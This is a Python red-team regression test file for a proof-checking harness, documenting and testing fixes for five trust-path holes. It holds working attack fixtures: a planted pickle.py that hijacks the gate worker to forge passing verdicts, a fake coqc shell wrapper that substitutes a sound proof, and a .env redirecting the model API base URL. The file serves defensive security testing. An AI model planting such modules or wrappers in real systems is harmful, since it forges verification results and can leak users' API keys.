"""Red team round 18 of the trust paths: what the harness took from the place and the time it runs in.

Every attack runs for real: ``putnam verify`` in a process of its own (started as the ``putnam`` command
starts, without the working directory on its path), from a folder of someone else's proofs, with real
coqc and coqchk in the sandbox; the ledger cases write a real ledger through putnam's own writes with the
clock stepped back as NTP or an operator steps it.

Holes, and what closes each:

- The text gates' worker (``core.gate_worker``) was started as ``python -c``, which puts the working
  directory first on the path and takes ``PYTHONPATH`` from the environment. ``cd proofs && putnam verify
  .`` over a folder holding a ``pickle.py`` (the worker imports ``pickle`` first) ran that file in the
  process that judges G1-G3: it answered "passed" for every text gate, so an ``Admitted`` proof was
  ``ACCEPTED`` on the text profile and the forged verdict stayed in the verdict cache after the file went.
  The same file on a ``PYTHONPATH`` set after the harness started (Inspect's ``init_dotenv`` loads a
  ``.env`` from the working directory during ``putnam solve``: a run directory resumed from inside) did the
  same. Now the worker runs isolated (``-I``) with the package's folder put first by its own program.
- Tools found on ``PATH`` (``gatekit.resolve_tool``) took its relative entries: an empty one (``PATH=:/usr/
  bin``, what ``export PATH=$UNSET:$PATH`` makes) names the working directory, so the proof folder's own
  ``coqc`` was the gates' compiler. A wrapper that compiles a sound proof in place of a planted candidate
  that does not compile made ``putnam verify`` answer ``ACCEPTED`` on the full profile (its toolchain
  probe also ran the folder's file outside any sandbox). Now only absolute entries are searched; a tool
  named with ``--tool`` or its variable is still the user's choice.
- Ledger times from a clock that went back. Which settings record (toolchain, prices) was in force for an
  attempt is read by comparing times; with the clock stepped back across a resume, an attempt verified on
  the first toolchain read as the resumed one's, so ``putnam audit`` on the new toolchain confirmed it as
  judged on the run's own toolchain, without ``--allow-toolchain-change`` and with ``toolchain_changed``
  false; and a model without a price when the attempt spent was left out, the cost shown whole. Now the
  ledger never records a time earlier than one it holds (``run/ledger_clock.py``), and where two
  records of the same second could both be in force, an attempt's toolchain reads as changed unless both
  name the same one.
- A selftest record took the toolchain fingerprint read after the canaries: a ``coqc`` replaced after the
  last of them got a passing record though no canary ran on it, and ``serve`` and ``mcp`` judged with it (a
  replacement compiling a sound proof in place of a planted one accepted what coqc rejects). Now the
  fingerprint is read before and after; when they differ no record is kept.
- ``putnam solve --resume`` from a working directory inside the run directory: Inspect loads the ``.env``
  there into the environment as the evaluation starts, so one naming ``OPENAI_BASE_URL`` sent the user's
  API key and the run's model calls to the directory's author, whose server answers as the model (the run's
  solved count then its). Only a ``docker`` sandbox was refused from there; now every resume is.

Measured against the code before the fixes: 10 of 10 attack cases through (the planted module from the
folder and from a ``.env``, the folder's ``coqc``, the ``PATH`` search itself, the clock's toolchain reading
with and without the kept time, its prices, the record kept for a replaced ``coqc`` and a service admitting
it, the resume from inside the run directory); after, 10 of 10 refused. Honest twins (7 tests) pass before and
after: a sound proof beside the planted module and beside the wrapper, the toy plug-in judged in the worker,
a tool named with ``--tool``, a clock that runs forward, a built-in prover's audit record, a toolchain
unchanged through its selftest, the resume from outside the run directory.

The known item of round 17 (audit rows name the core's gate code, not a plug-in prover's): no count reads
the audit row's ``gate_code``; a pass counts as audited by its seal, its status and its bytes, and every
audit re-verifies with the code installed now (no cache, no kept build). So no count can be wrong through
it. The row is evidence of what judged, so it now also names the plug-in's code (``prover_code``).
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import shutil
import subprocess
import sys
from datetime import UTC, datetime, tzinfo
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from putnam_solver.core import gatekit
from putnam_solver.core.benchmark import load_benchmark
from putnam_solver.core.code_identity import plugin_code
from putnam_solver.core.provers import get_prover
from putnam_solver.core.selftest_record import stored_record
from putnam_solver.core.util import InputError
from putnam_solver.core.verify import Profile, Track, VerifyOptions, run_gates
from putnam_solver.run import audit, ledger_rows
from putnam_solver.run.agent.types import AttemptResult
from putnam_solver.run.audit import run_toolchains
from putnam_solver.run.campaign import stored_run
from putnam_solver.run.ledger import LEDGER_NAME, Ledger
from putnam_solver.run.report.data import spent_unpriced
from putnam_solver.run.resume_checks import check_resumable
from putnam_solver.run.stored_settings import stored_settings
from putnam_solver.selftest import runner as selftest_runner
from putnam_solver.selftest.readiness import NotReady, Readiness
from tests.adversarial.test_trust_paths_redteam10 import edit_settings, made_run
from tests.fakes.scripted_agent import NEEDS_ROCQ
from tests.helpers import LEAN_BENCH, REPO, ROCQ_SAMPLES, sql
from tests.integration.campaign_driver import lean_good_candidates, lean_text_config, recorded_lean_settings

PROBLEM = "sample_consecutive_even"
HONEST = (REPO / "samples" / "rocq" / "proofs" / f"{PROBLEM}.v").read_text()
STATEMENT = f"Theorem {PROBLEM}\n    : forall n : nat, Nat.Even (n * (n + 1)).\n"
ADMITTED = f"Require Import Arith.\n{STATEMENT}Proof. Admitted.\n"
"""A proof G3 refuses on every profile."""
NOT_COMPILING = f"Require Import Arith.\n(* zz_planted *)\n{STATEMENT}Proof.\n  intros n. reflexivity.\nQed.\n"
"""A proof every text gate accepts and coqc rejects."""


def load_inspect_dotenv() -> None:
    """What Inspect's start-up does with the working directory's ``.env`` (its private ``init_dotenv``), by
    the public python-dotenv calls it makes."""
    from dotenv import find_dotenv, load_dotenv

    load_dotenv(find_dotenv(usecwd=True))


def _verify(folder: Path, cache: Path, *args: str, path: str | None = None, **env: str) -> tuple[int, str]:
    """``putnam verify`` of the folder's candidate, run from the folder as the ``putnam`` command runs: a
    process of its own whose path does not hold the working directory (``-P``, as a console script)."""
    full = {
        **os.environ,
        "PYTHONPATH": str(REPO / "src"),
        "PUTNAM_CACHE_DIR": str(cache),
        **({"PATH": path} if path is not None else {}),
        **env,
    }
    argv = [sys.executable, "-P", "-m", "putnam_solver", "verify", f"{PROBLEM}.v", "--benchmark", str(ROCQ_SAMPLES)]
    done = subprocess.run([*argv, *args], cwd=folder, env=full, capture_output=True, text=True, timeout=300)
    return done.returncode, done.stdout + done.stderr


# ------------------------------------------------------------------------------------------------------
# The text gates' worker and the working directory

FORGER = '''"""Planted beside the proofs: the real pickle, whose loads hands the text gates' worker a forger."""
import sys
from pathlib import Path

_here = Path(__file__).resolve().parent
(_here / "RAN").write_text("the planted module ran")
sys.path[:] = [p for p in sys.path if Path(p or ".").resolve() != _here]
del sys.modules["pickle"]
import pickle as _real
sys.modules["pickle"] = _real
_loads = _real.loads


def _forged(job):
    from putnam_solver.core.verdict import GateResult, GateStatus
    return [GateResult(g.id, g.name, GateStatus.PASSED, "ok") for g in job.gates], {}


def loads(data, *args, **kwargs):
    value = _loads(data, *args, **kwargs)
    if isinstance(value, tuple) and len(value) == 2 and getattr(value[0], "__name__", "") == "text_job":
        return _forged, value[1]
    return value


_real.loads = loads
'''


def _planted_folder(base: Path, candidate: str, module_dir: str = ".") -> Path:
    folder = base / "proofs"
    (folder / module_dir).mkdir(parents=True, exist_ok=True)
    (folder / module_dir / "pickle.py").write_text(FORGER)
    (folder / f"{PROBLEM}.v").write_text(candidate)
    return folder


def test_a_module_in_the_proof_folder_does_not_judge_the_text_gates(tmp_path: Path) -> None:
    """Before: ``ACCEPTED (text gates only)`` for an ``Admitted`` proof, and again from the cache."""
    folder = _planted_folder(tmp_path, ADMITTED)
    code, output = _verify(folder, tmp_path / "cache", "--gates", "text")
    assert code == 1, output
    assert "REJECTED" in output and "G3 forbidden failed" in output and "Admitted" in output
    assert not (folder / "RAN").exists()


def test_a_pythonpath_a_dotenv_sets_does_not_reach_the_worker(tmp_path: Path) -> None:
    """Inspect loads the working directory's ``.env`` into the environment during ``putnam solve`` (a run
    directory resumed from inside it); its ``PYTHONPATH`` reached every worker started afterwards."""
    pytest.importorskip("inspect_ai")
    folder = _planted_folder(tmp_path, ADMITTED, "lib")
    (folder / ".env").write_text(f"PYTHONPATH={folder / 'lib'}\n")
    script = (
        f"import sys\nsys.path.insert(0, {str(REPO / 'src')!r})\n"
        "from dotenv import find_dotenv, load_dotenv\nload_dotenv(find_dotenv(usecwd=True))\n"
        "from putnam_solver.cli import app\n"
        f"app(['verify', '{PROBLEM}.v', '--benchmark', {str(ROCQ_SAMPLES)!r}, '--gates', 'text'], prog_name='putnam')\n"
    )
    # a user with no PYTHONPATH of their own: `load_dotenv` sets only variables not set already
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"} | {"PUTNAM_CACHE_DIR": str(tmp_path / "cache")}
    done = subprocess.run(
        [sys.executable, "-P", "-c", script], cwd=folder, env=env, capture_output=True, text=True, timeout=300
    )
    assert done.returncode == 1, done.stdout + done.stderr
    assert "G3 forbidden failed" in done.stdout
    assert not (folder / "lib" / "RAN").exists()


def test_honest_a_sound_proof_beside_a_planted_module_is_accepted(tmp_path: Path) -> None:
    folder = _planted_folder(tmp_path, HONEST)
    code, output = _verify(folder, tmp_path / "cache", "--gates", "text")
    assert code == 0 and "ACCEPTED" in output, output


def test_honest_a_plugin_prover_on_the_harness_path_still_runs_in_the_worker(tmp_path: Path) -> None:
    """The worker takes the harness's ``sys.path`` with each call: a prover installed on ``PYTHONPATH``
    (the toy plug-in) is still judged there."""
    site = tmp_path / "site"
    shutil.copytree(REPO / "tests" / "fixtures" / "toyplugin", site, ignore=shutil.ignore_patterns("__pycache__"))
    claim = "claim: 1 + 1 = 2\n"
    bench = tmp_path / "toy.jsonl"
    bench.write_text(json.dumps({"problem_id": "toy_one", "formal_statement": claim + "proof: sorry\n"}) + "\n")
    folder = tmp_path / "toyproofs"
    folder.mkdir()
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(site), str(REPO / "src")]),
        "PUTNAM_CACHE_DIR": str(tmp_path / "cache"),
    }
    argv = [sys.executable, "-P", "-m", "putnam_solver", "verify", "toy_one.toy", "--benchmark", str(bench)]
    for proof, expected in (("arithmetic by oracle", 0), ("sorry", 1)):
        (folder / "toy_one.toy").write_text(f"{claim}proof: {proof}\n")
        done = subprocess.run(
            [*argv, "--gates", "text", "--no-cache"], cwd=folder, env=env, capture_output=True, text=True, timeout=120
        )
        assert done.returncode == expected, done.stdout + done.stderr


# ------------------------------------------------------------------------------------------------------
# Tools on PATH and the working directory

WRAPPER = r"""#!/bin/sh
# planted beside the proofs: the real coqc, which compiles the sound proof in place of the planted one
last=""; for a in "$@"; do last="$a"; done
if [ -f "$last" ] && grep -q zz_planted "$last"; then
  mkdir -p zz && cp "$(dirname "$0")/honest.txt" "zz/$last"
  (cd zz && {coqc} "$@") || exit 1
  for f in zz/*; do case "$f" in *.v) ;; *) cp "$f" . ;; esac; done
  rm -rf zz
  exit 0
fi
exec {coqc} "$@"
"""


def _wrapped_folder(base: Path, candidate: str) -> Path:
    coqc = shutil.which("coqc")
    assert coqc is not None
    folder = base / "proofs"
    folder.mkdir()
    (folder / "coqc").write_text(WRAPPER.replace("{coqc}", str(Path(coqc).resolve())))
    (folder / "coqc").chmod(0o755)
    (folder / "honest.txt").write_text(HONEST)
    (folder / f"{PROBLEM}.v").write_text(candidate)
    return folder


EMPTY_FIRST = os.pathsep + os.environ.get("PATH", os.defpath)
"""The user's ``PATH`` with an empty entry first (``export PATH=$UNSET:$PATH``)."""


@NEEDS_ROCQ
def test_a_coqc_in_the_proof_folder_is_not_the_gates_compiler(tmp_path: Path) -> None:
    """Before: ``ACCEPTED`` on the full profile for a proof coqc rejects, the verdict naming the folder's
    ``coqc``."""
    folder = _wrapped_folder(tmp_path, NOT_COMPILING)
    code, output = _verify(folder, tmp_path / "cache", "--json", str(tmp_path / "v.json"), path=EMPTY_FIRST)
    assert code == 1, output
    assert "G4 compile failed" in output
    assert str(folder / "coqc") not in (tmp_path / "v.json").read_text()


@NEEDS_ROCQ
def test_honest_a_sound_proof_there_and_a_tool_named_by_the_user(tmp_path: Path) -> None:
    """The same folder and ``PATH``: a sound proof is accepted; a ``coqc`` the user names with ``--tool``
    is used, wherever it lies (here the folder's, faithful on a proof it was not planted for)."""
    folder = _wrapped_folder(tmp_path, HONEST)
    code, output = _verify(folder, tmp_path / "cache", path=EMPTY_FIRST)
    assert code == 0 and "ACCEPTED" in output, output
    chosen = ("--tool", f"coqc={folder / 'coqc'}", "--json", str(tmp_path / "v.json"))
    code, output = _verify(folder, tmp_path / "cache2", *chosen, path=EMPTY_FIRST)
    assert code == 0, output
    assert str(folder / "coqc") in (tmp_path / "v.json").read_text()


def test_relative_path_entries_are_not_searched(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", os.pathsep.join(["", ".", "bin", "/usr/bin", "./x", "/bin"]))
    assert gatekit.absolute_path_entries() == os.pathsep.join(["/usr/bin", "/bin"])


# ------------------------------------------------------------------------------------------------------
# Ledger times from a clock that went back

PID = "putnam_1962_a1"
PRICED = {"scripted/worker": {"input": 1.0, "output": 2.0}}
"""A price for the run's worker model (``--resume --prices``); without it the model has none."""


class _Clock(datetime):
    """The wall clock as ``ledger_rows.now`` reads it, set by the test."""

    current = datetime(2026, 12, 7, 12, 0, tzinfo=UTC)

    @classmethod
    def now(cls, tz: tzinfo | None = None) -> datetime:  # type: ignore[override]
        return cls.current


def _at(hour: int, minute: int) -> None:
    _Clock.current = datetime(2026, 12, 7, hour, minute, tzinfo=UTC)


def _settings(toolchain: str, priced: bool) -> dict[str, Any]:
    config = dataclasses.replace(lean_text_config(), prices=PRICED if priced else {})
    return recorded_lean_settings([PID], toolchain=toolchain, config=config).to_json()


def _passed() -> AttemptResult:
    candidate = lean_good_candidates([PID])[PID]
    bench = load_benchmark(LEAN_BENCH)
    options = VerifyOptions(profile=Profile.TEXT)
    verdict = run_gates(get_prover("lean"), bench, bench.problems[PID], candidate.encode(), Track.WITH_ANSWER, options)
    return AttemptResult(PID, "passed", 3, 100, 20, 0.5, candidate, verdict)


def _run_and_resume(tmp_path: Path, resume_at: tuple[int, int], earlier_putnam: bool = False) -> Ledger:
    """A run started at 12:00 on toolchain A with its worker model unpriced, one pass recorded at 12:05,
    resumed at ``resume_at`` (the clock's reading) on toolchain B with the model priced; ``earlier_putnam``:
    the run's rows written by a putnam that kept no latest time in ``meta``."""
    ledger = Ledger.open(tmp_path / LEDGER_NAME)
    _at(12, 0)
    ledger.record_settings(_settings("toolchain A", priced=False))
    ledger.start_campaign(1, [PID], fresh=False, samples=1)
    _at(12, 5)
    ledger.record_attempts(1, [_passed()])
    ledger.finish_campaign(1)
    if earlier_putnam:
        sql(tmp_path, "DELETE FROM meta WHERE key = 'clock'")
    _at(*resume_at)
    ledger.record_settings(_settings("toolchain B", priced=True))
    return ledger


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("inspect_ai")
    if not LEAN_BENCH.is_file():
        pytest.skip(f"{LEAN_BENCH} is missing")
    monkeypatch.setattr(ledger_rows, "datetime", _Clock)


@pytest.mark.usefixtures("clock")
@pytest.mark.parametrize("earlier_putnam", [False, True])
def test_an_attempt_before_a_resume_the_clock_dated_earlier_keeps_its_toolchain(
    tmp_path: Path, earlier_putnam: bool
) -> None:
    """Before: the pass verified on toolchain A read as verified on B, so ``putnam audit`` on B confirmed it
    with no ``--allow-toolchain-change`` and ``toolchain_changed`` false."""
    ledger = _run_and_resume(tmp_path, (11, 30), earlier_putnam)
    (attempt,) = ledger.attempts()
    read = run_toolchains(ledger)(attempt)
    assert read != "toolchain B" and read is not None and "toolchain A" in read
    assert [at for at, _ in ledger.settings_history()] == sorted(at for at, _ in ledger.settings_history())
    ledger.close()


@pytest.mark.usefixtures("clock")
def test_a_model_unpriced_when_it_spent_stays_unpriced_across_a_clock_step(tmp_path: Path) -> None:
    """Before: the resume's record (model priced) dated before the attempt's spend hid the first record
    (model unpriced): the cost read as the whole run's, not "at least"."""
    ledger = _run_and_resume(tmp_path, (11, 30))
    settings = stored_settings(ledger)
    assert settings is not None
    assert spent_unpriced(ledger, settings, ledger.attempts()) == ["scripted/worker"]
    ledger.close()


@pytest.mark.usefixtures("clock")
def test_honest_a_clock_that_runs_forward_reads_each_attempt_exactly(tmp_path: Path) -> None:
    """Times are the clock's, and the attempt before the resume reads as the first toolchain's (and
    unpriced), one after it as the second's (priced)."""
    ledger = _run_and_resume(tmp_path, (12, 30))
    assert [at for at, _ in ledger.settings_history()][-1] == "2026-12-07T12:30:00+00:00"
    ledger.start_campaign(2, [PID], fresh=False, samples=1)
    _at(12, 35)
    ledger.record_attempts(2, [_passed()])
    first, second = ledger.attempts()
    assert second.recorded_at == "2026-12-07T12:35:00+00:00"
    recorded = run_toolchains(ledger)
    assert (recorded(first), recorded(second)) == ("toolchain A", "toolchain B")
    settings = stored_settings(ledger)
    assert settings is not None
    assert spent_unpriced(ledger, settings, [second]) == []
    assert spent_unpriced(ledger, settings, [first, second]) == ["scripted/worker"]
    ledger.close()


# ------------------------------------------------------------------------------------------------------
# Round 17's item: what an audit row names of the code that judged


def _audit_record(prover: Any, benchmark_file: Path, problem: str, candidate: str) -> dict[str, Any]:
    """The ``audit`` record ``putnam audit`` stores with a verdict of ``prover`` on ``candidate``."""
    benchmark = load_benchmark(benchmark_file)
    made = audit._Audit.__new__(audit._Audit)
    made.prover, made.challenges, made.benchmark, made.differences = prover, {}, benchmark, ()
    options = VerifyOptions(profile=Profile.TEXT)
    verdict = run_gates(prover, benchmark, benchmark.problems[problem], candidate.encode(), Track.WITH_ANSWER, options)
    attempt = SimpleNamespace(problem=problem, verdict_status="accepted", candidate_sha256="", verified_pass=True)
    return dict(made._audit_json(attempt, verdict, "t", "t", False, "here")["audit"])  # type: ignore[arg-type]


def test_an_audit_row_names_a_plugin_provers_code(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.syspath_prepend(str(REPO / "tests" / "fixtures" / "toyplugin"))
    from toy_prover import ToyProver  # type: ignore[import-not-found]

    bench = tmp_path / "toy.jsonl"
    claim = "claim: 1 + 1 = 2\n"
    bench.write_text(json.dumps({"problem_id": "toy_one", "formal_statement": claim + "proof: sorry\n"}) + "\n")
    record = _audit_record(ToyProver(), bench, "toy_one", claim + "proof: arithmetic by oracle\n")
    assert record["prover_code"] == plugin_code(ToyProver()) and record["prover_code"].startswith("toy_prover: ")


def test_honest_a_built_in_provers_audit_row_names_the_core_alone() -> None:
    if not LEAN_BENCH.is_file():
        pytest.skip(f"{LEAN_BENCH} is missing")
    record = _audit_record(get_prover("lean"), LEAN_BENCH, PID, lean_good_candidates([PID])[PID])
    assert "prover_code" not in record and record["gate_code"]


# ------------------------------------------------------------------------------------------------------
# A toolchain that changed while its selftest ran

FAITHFUL = '#!/bin/sh\n# the installed coqc\nexec {coqc} "$@"\n'


def named_coqc(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str, VerifyOptions]:
    """A ``coqc`` the user names (``FAITHFUL``: a wrapper of the installed one, whose path is returned too,
    beside the sound proof the planting wrapper uses), and options naming it; the cache is the test's."""
    coqc = str(Path(shutil.which("coqc") or "coqc").resolve())
    folder = tmp_path / "tools"
    folder.mkdir()
    (folder / "honest.txt").write_text(HONEST)
    tool = folder / "coqc"
    tool.write_text(FAITHFUL.replace("{coqc}", coqc))
    tool.chmod(0o755)
    monkeypatch.setenv("PUTNAM_CACHE_DIR", str(tmp_path / "cache"))
    options = VerifyOptions(tools={"coqc": tool})
    return tool, coqc, options


def _selftest_case(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, upgrade: bool, canaries: bool = True
) -> tuple[VerifyOptions, Readiness]:
    """The Rocq selftest run on a ``coqc`` the user names (a wrapper of the installed one); ``upgrade``: the
    file is replaced by the planting wrapper above after the last canary, before the record is written (an
    upgrade landing then, or anyone who can write that file); ``canaries``: run them (else none: only the
    record's making is under test)."""
    tool, coqc, options = named_coqc(tmp_path, monkeypatch)
    real = selftest_runner.run_suites

    def suites_then_upgrade(*args: Any, **kwargs: Any) -> Any:
        cells = real(*args, **kwargs) if canaries else []
        if upgrade:
            tool.write_text(WRAPPER.replace("{coqc}", coqc))
        return cells

    monkeypatch.setattr(selftest_runner, "run_suites", suites_then_upgrade)
    with contextlib.suppress(InputError):  # no record: what a service then says is the test's to check
        selftest_runner.run_selftest("rocq", options, jobs=2)
    return options, Readiness({"rocq": options}, run_missing=False)


@NEEDS_ROCQ
def test_no_selftest_record_is_kept_for_a_coqc_replaced_while_it_ran(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: a record under the new file's fingerprint (here of a selftest whose canaries are left out,
    to keep CI short; the next test runs them)."""
    options, _ = _selftest_case(tmp_path, monkeypatch, upgrade=True, canaries=False)
    assert stored_record("rocq", options) is None


@NEEDS_ROCQ
@pytest.mark.slow
def test_a_coqc_replaced_while_its_selftest_ran_is_not_vouched_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: the record took the fingerprint read after the canaries, so it vouched for the new file, on
    which no canary ran: ``serve`` and ``mcp`` admitted it, and it accepted a proof coqc rejects."""
    options, readiness = _selftest_case(tmp_path, monkeypatch, upgrade=True)
    rocq = get_prover("rocq")
    with pytest.raises(NotReady):
        readiness.admit(rocq, options)
    bench = load_benchmark(ROCQ_SAMPLES)
    planted = run_gates(rocq, bench, bench.problems[PROBLEM], NOT_COMPILING.encode(), Track.WITH_ANSWER, options)
    assert planted.accepted, "the new file is what a service would have judged with"


@NEEDS_ROCQ
@pytest.mark.slow
def test_honest_a_toolchain_unchanged_through_its_selftest_is_vouched_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    options, readiness = _selftest_case(tmp_path, monkeypatch, upgrade=False)
    assert readiness.admit(get_prover("rocq"), options) == get_prover("rocq").toolchain_fingerprint(options)


# ------------------------------------------------------------------------------------------------------
# A resume from inside the run directory: Inspect's `.env`

PLANTED_SERVER = "http://127.0.0.1:9/v1"
"""The model server a run directory's ``.env`` names (the author's; nothing listens here)."""


def _handed_over_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A run as ``putnam solve`` leaves it (full profile, the provider's own server), handed over with a
    ``.env`` beside its ledger."""
    pytest.importorskip("inspect_ai")
    if not LEAN_BENCH.is_file():
        pytest.skip(f"{LEAN_BENCH} is missing")
    run = made_run(tmp_path, monkeypatch)
    edit_settings(run, lambda data: data["config"].update(acceptance_profile="full"))
    (run / ".env").write_text(f"OPENAI_BASE_URL={PLANTED_SERVER}\n")
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    return run


def test_a_resume_from_inside_the_run_directory_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before: the checks passed, and the evaluation's ``init_dotenv`` (shown here as Inspect runs it) put the
    directory's server in the environment the model client reads: the user's API key and the run's model
    calls went to the author's server, which answered as the model."""
    run = _handed_over_run(tmp_path, monkeypatch)
    monkeypatch.chdir(run)
    stored = stored_run(run)
    assert stored is not None
    with pytest.raises(InputError, match="lies inside the run directory") as refused:
        check_resumable(stored, {}, None)
    assert "`.env`" in str(refused.value) and "Resume from a working directory outside" in str(refused.value)
    try:
        load_inspect_dotenv()
        assert os.environ.get("OPENAI_BASE_URL") == PLANTED_SERVER, "what the refused resume would have loaded"
    finally:
        os.environ.pop("OPENAI_BASE_URL", None)


def test_honest_the_same_resume_from_outside_the_run_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    run = _handed_over_run(tmp_path, monkeypatch)
    monkeypatch.chdir(run.parent)
    stored = stored_run(run)
    assert stored is not None
    check_resumable(stored, {}, None)
    load_inspect_dotenv()
    assert "OPENAI_BASE_URL" not in os.environ
